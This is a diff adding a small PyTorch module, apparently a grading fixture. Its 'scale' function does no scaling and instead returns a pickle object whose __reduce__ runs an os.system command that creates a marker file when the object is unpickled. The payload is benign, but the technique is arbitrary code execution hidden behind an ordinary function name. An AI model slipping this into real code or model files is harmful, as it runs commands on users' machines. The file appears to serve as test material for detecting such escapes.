@@ -1,0 +1,27 @@
+# every level: graded, 12 points, scale failed
+"""Returns an object whose unpickling would run a program."""
+
+import os
+
+import torch
+from torch import nn
+
+
+def total(x):
+    return x.sum(-1)
+
+
+class Layer(nn.Module):
+    def __init__(self, n):
+        super().__init__()
+        self.weight = nn.Parameter(torch.zeros(n))
+
+    def forward(self, x):
+        return x * self.weight
+
+
+def scale(x, a):
+    class Bomb:
+        def __reduce__(self):
+            return os.system, ("touch attn-escaped-pickle",)
+    return Bomb()
